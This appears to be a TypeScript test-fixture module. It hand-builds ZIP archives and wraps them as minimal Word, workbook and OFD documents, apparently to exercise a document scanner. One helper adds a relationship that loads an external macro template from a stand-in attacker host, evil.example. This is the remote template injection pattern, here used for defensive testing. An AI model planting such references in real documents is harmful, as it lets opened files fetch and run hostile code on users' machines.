import { crc32, deflateRawSync } from 'node:zlib'

export type ZipPart = {
  readonly name: string
  readonly data?: Buffer | string
  /** As the directory says; otherwise what it is. */
  readonly method?: number
}

/**
 * A ZIP with real contents, and any name: writers of ZIP files refuse the ones that our tests need.
 */
export function packZip(parts: readonly ZipPart[]): Buffer {
  const [local, central]: [Buffer[], Buffer[]] = [[], []]
  let at = 0
  for (const { name, data = '', method = 8 } of parts) {
    const [title, plain] = [Buffer.from(name), Buffer.from(data)]
    const packed = method === 8 ? deflateRawSync(plain) : plain
    const shared = Buffer.alloc(26)
    shared.writeUInt16LE(20, 0)
    shared.writeUInt16LE(method, 4)
    shared.writeUInt32LE(crc32(plain), 10)
    shared.writeUInt32LE(packed.length, 14)
    shared.writeUInt32LE(plain.length, 18)
    shared.writeUInt16LE(title.length, 22)
    const head = Buffer.concat([Buffer.from('PK\x03\x04'), shared, title, packed])
    const rest = Buffer.alloc(14)
    rest.writeUInt32LE(at, 10)
    central.push(Buffer.concat([Buffer.from('PK\x01\x02\x14\x00', 'latin1'), shared, rest, title]))
    local.push(head)
    at += head.length
  }
  const directory = Buffer.concat(central)
  const end = Buffer.alloc(22)
  end.write('PK\x05\x06')
  end.writeUInt16LE(parts.length, 8)
  end.writeUInt16LE(parts.length, 10)
  end.writeUInt32LE(directory.length, 12)
  end.writeUInt32LE(at, 16)
  return Buffer.concat([...local, directory, end])
}

const TYPES = '[Content_Types].xml'

/** A Word document with these parts beside its own. */
export const wordWith = (parts: readonly ZipPart[] = [], types: Buffer | string = '<Types/>') =>
  packZip([
    { name: TYPES, data: types },
    { name: 'word/document.xml', data: '<w:document/>' },
    ...parts,
  ])

/** A workbook with these parts beside its own. */
export const workbookWith = (parts: readonly ZipPart[] = []) =>
  packZip([
    { name: TYPES, data: '<Types/>' },
    { name: 'xl/workbook.xml', data: '<workbook/>' },
    ...parts,
  ])

/** A Word document one part of which refers to something of this type outside. */
export const wordReferring = (type: string, relationship = `TargetMode="External"`) =>
  wordWith([
    {
      name: 'word/_rels/settings.xml.rels',
      data: `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="https://evil.example/a.dotm" ${relationship}/></Relationships>`,
    },
  ])

/** A layout document (GB/T 33190) with these parts beside its own. */
export const ofdWith = (parts: readonly ZipPart[] = []) =>
  packZip([
    { name: 'OFD.xml', data: '<ofd:OFD/>' },
    { name: 'Doc_0/Document.xml', data: '<ofd:Document/>' },
    ...parts,
  ])
